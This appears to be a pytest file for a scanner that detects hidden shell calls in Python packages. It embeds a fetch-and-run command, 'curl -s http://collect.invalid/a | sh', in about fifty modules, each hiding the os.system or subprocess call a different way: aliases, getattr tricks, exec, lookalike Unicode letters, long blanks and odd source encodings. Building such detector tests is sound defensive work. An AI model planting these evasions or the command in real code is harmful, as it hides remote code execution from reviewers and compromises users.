"""What hides calls from a search for words: each way is followed to the command that is run.

The module stands in a package with more honest source than is parsed, so the choice of what
deserves parsing is tested together with the parser and the evaluator.
"""

import pytest

from tests.code.reading import among_honest, facts

COMMAND = "curl -s http://collect.invalid/a | sh"
PAYLOAD = f"'{COMMAND}'"
WIDE = "".join(chr(ord(letter) + 0xFEE0) for letter in "system")
BOLD = "".join(chr(ord(letter) - ord("a") + 0x1D41A) for letter in "os")
ITALIC = "".join(chr(ord(letter) - ord("a") + 0x1D622) for letter in "system")
"""The same letters elsewhere in Unicode; Python takes them for the plain ones in a name."""

HIDDEN: dict[str, str] = {
    "plain": f"import os\ndef go():\n    os.system({PAYLOAD})\n",
    "renamed function": f"from os import system as s\ndef go():\n    s({PAYLOAD})\n",
    "renamed module": f"import os as o\nf = o.system\ndef go():\n    f({PAYLOAD})\n",
    "renamed in brackets": (
        f"from os import (\n    getcwd,\n    system as s,\n)\ndef go():\n    s({PAYLOAD})\n"
    ),
    "renamed twice": (f"from os import system as s\nt = s\nu = t\ndef go():\n    u({PAYLOAD})\n"),
    "parenthesised": f"import os\ndef go():\n    (os.system)({PAYLOAD})\n",
    "subscripted": f"import os\ndef go():\n    [os.system][0]({PAYLOAD})\n",
    "in a table": f"import os\nt = {{'a': os.system}}\ndef go():\n    t['a']({PAYLOAD})\n",
    "line continuation": f"import os\ndef go():\n    os.\\\n    system({PAYLOAD})\n",
    "continued import": f"from os import \\\n    system as s\ndef go():\n    s({PAYLOAD})\n",
    "getattr": f"import os\ndef go():\n    getattr(os, 'sys' + 'tem')({PAYLOAD})\n",
    "getattr reversed": f"import os\ndef go():\n    getattr(os, 'metsys'[::-1])({PAYLOAD})\n",
    "__import__": f"def go():\n    __import__('o' + 's').system({PAYLOAD})\n",
    "import_module": (
        f"import importlib\ndef go():\n    importlib.import_module('so'[::-1]).system({PAYLOAD})\n"
    ),
    "module's __dict__": f"import os\ndef go():\n    os.__dict__['system']({PAYLOAD})\n",
    "vars": f"import os\ndef go():\n    vars(os)['sys' + 'tem']({PAYLOAD})\n",
    "globals": f"from os import *\ndef go():\n    globals()['system']({PAYLOAD})\n",
    "globals of a module": f"import os\ndef go():\n    globals()['os'].system({PAYLOAD})\n",
    "sys.modules": f"import sys, os\ndef go():\n    sys.modules['os'].system({PAYLOAD})\n",
    "builtins": f"import builtins\ndef go():\n    builtins.__import__('os').system({PAYLOAD})\n",
    "__builtins__": f"def go():\n    __builtins__['__import__']('os').system({PAYLOAD})\n",
    "star import": f"from os import *\ndef go():\n    system({PAYLOAD})\n",
    "star import of a common word": (
        f"from subprocess import *\ndef go():\n    run({PAYLOAD}, shell=True)\n"
    ),
    "walrus": f"import os\ndef go():\n    (f := os.system)\n    f({PAYLOAD})\n",
    "comprehension": f"import os\ndef go():\n    [f({PAYLOAD}) for f in [os.system]]\n",
    "map": f"import os\ndef go():\n    list(map(os.system, [{PAYLOAD}]))\n",
    "decorator": (
        f"import os\ndef wrap(f):\n    os.system({PAYLOAD})\n    return f\n"
        "@wrap\ndef go():\n    pass\n"
    ),
    "decorated by the call": f"import os\n@os.system\ndef go():\n    pass\nos.system({PAYLOAD})\n",
    "class attribute": (
        f"import os\nclass Kind:\n    run = os.system\ndef go():\n    Kind.run({PAYLOAD})\n"
    ),
    "instance attribute": (
        "import os\nclass Kind:\n    def __init__(self):\n        self.f = os.system\n"
        f"    def go(self):\n        self.f({PAYLOAD})\ndef go():\n    Kind().go()\n"
    ),
    "default argument": f"import os\ndef go(f=os.system):\n    f({PAYLOAD})\n",
    "lambda": f"import os\ngo = lambda: (lambda f: f({PAYLOAD}))(os.system)\ngo()\n",
    "nest of lambdas": (
        "import os\n"
        f"def go():\n    (lambda a: (lambda b: (lambda c: c(b))(a))({PAYLOAD}))(os.system)\n"
    ),
    "partial": (
        f"import os, functools\ndef go():\n    functools.partial(os.system, {PAYLOAD})()\n"
    ),
    "attrgetter": (
        f"import os, operator\ndef go():\n    operator.attrgetter('system')(os)({PAYLOAD})\n"
    ),
    "methodcaller": (
        f"import os, operator\ndef go():\n    operator.methodcaller('system', {PAYLOAD})(os)\n"
    ),
    "f-string": (
        "import os\nhost = 'collect.invalid'\n"
        "def go():\n    os.system(f'curl -s http://{host}/a | sh')\n"
    ),
    "percent": (
        "import os\ndef go():\n"
        "    os.system('%s -s http://%s/a | sh' % ('curl', 'collect.invalid'))\ngo()\n"
    ),
    "format": (
        "import os\ndef go():\n"
        "    os.system('{0} -s http://{1}/a | sh'.format('curl', 'collect.invalid'))\ngo()\n"
    ),
    "join": (
        "import os\ndef go():\n"
        "    os.system(' '.join(['curl', '-s', 'http://collect.invalid/a', '| sh']))\ngo()\n"
    ),
    "carriage returns": f"import os\rdef go():\r    os.system({PAYLOAD})\r",
    "form feed": f"import os\n\x0cdef go():\n    os.system({PAYLOAD})\n",
    "full-width letters": f"import os\ndef go():\n    os.{WIDE}({PAYLOAD})\n",
    "mathematical letters": f"import os\ndef go():\n    {BOLD}.{ITALIC}({PAYLOAD})\n",
    "behind many blanks": f"import os\ndef go():\n    a = 1;{' ' * 400}os.system({PAYLOAD})\n",
    "try and except": (
        "import os\ndef go():\n    try:\n        1 / 0\n"
        f"    except Exception:\n        os.system({PAYLOAD})\n"
    ),
    "exec of text": f'def go():\n    exec("import os; os.system({PAYLOAD})")\n',
    "eval of a name": (f"import os\ndef go():\n    eval('os.' + 'system')({PAYLOAD})\n"),
    "compiled": (
        f"def go():\n    exec(compile(\"import os; os.system({PAYLOAD})\", 'x', 'exec'))\n"
    ),
    "method called later": (
        "import os\nclass Kind:\n    command = ''\n    def run(self):\n"
        "        os.system(self.command)\n"
        f"kind = Kind()\nkind.run()\nkind.command = {PAYLOAD}\nkind.run()\n"
    ),
    "global set later": (
        "import os\ncommand = ''\ndef go():\n    os.system(command)\n"
        f"go()\ncommand = {PAYLOAD}\ngo()\n"
    ),
    "behind a long loop": (
        "import os\ndef go():\n    running = True\n    while running:\n        pass\n"
        f"    for one in [''] * 50 + [{PAYLOAD}]:\n        os.system(one)\n"
    ),
}
"""How the call is hidden → a module that runs the command."""


@pytest.mark.parametrize("how", HIDDEN)
def test_a_hidden_command_is_found(how: str) -> None:
    found = facts(among_honest(HIDDEN[how]))
    texts = [value.text for some in found.values() for fact in some for value in fact.values]
    assert any("collect.invalid/a" in text and "curl" in text for text in texts), found
    assert "exec/shell" in found or "exec/process" in found, sorted(found)


COOKIES = {
    "utf-7": "# coding: utf-7\n+AGkAbQBwAG8AcgB0 os; os.system('{}')\n",
    "unicode_escape": "# coding: unicode_escape\n# \\u000aimport os\\u003b os.system('{}')\n",
    "raw_unicode_escape": "# coding: raw_unicode_escape\n# \\u000aimport os; os.system('{}')\n",
}


@pytest.mark.parametrize("codec", COOKIES)
def test_source_is_read_as_its_cookie_says(codec: str) -> None:
    source = COOKIES[codec].replace("{}", COMMAND)
    found = facts(among_honest(source))
    assert any(fact.symbol == "text.encoding" for fact in found["obfus/hidden-text"])
    assert any(
        "collect.invalid" in value.text for fact in found["exec/shell"] for value in fact.values
    )


def test_utf_16_with_a_byte_order_mark_is_read() -> None:
    source = f"import os\nos.system({PAYLOAD})\n".encode("utf-16")
    assert "exec/shell" in facts(among_honest(source))


def test_a_name_from_another_module_is_followed() -> None:
    sources = among_honest(f"from .names import *\ndef go():\n    s({PAYLOAD})\ngo()\n")
    sources["tide/names.py"] = "from os import system as s\nimport requests\n"
    sources["tide/__init__.py"] = "from . import odd\n"
    found = facts(sources, {"tide/__init__.py": "import"})
    assert any(fact.activation == "import" for fact in found.get("exec/shell", ())), sorted(found)


def test_what_an_import_calls_runs_at_import() -> None:
    sources = among_honest(f"import os, requests\ndef go():\n    os.system({PAYLOAD})\n")
    sources["tide/__init__.py"] = "from .odd import go\ngo()\n"
    found = facts(sources, {"tide/__init__.py": "import"})
    assert {fact.activation for fact in found["exec/shell"]} == {"import"}


def test_a_word_in_prose_does_not_send_a_module_to_the_parser() -> None:
    source = "import re, platform\nimport requests\nPATTERN = re.compile('a')\n\n\n"
    source += "def agent():\n    return platform.system()\n\n\n"
    source += "def get(url):\n    return requests.get(url)\n"
    assert not facts(among_honest(source))
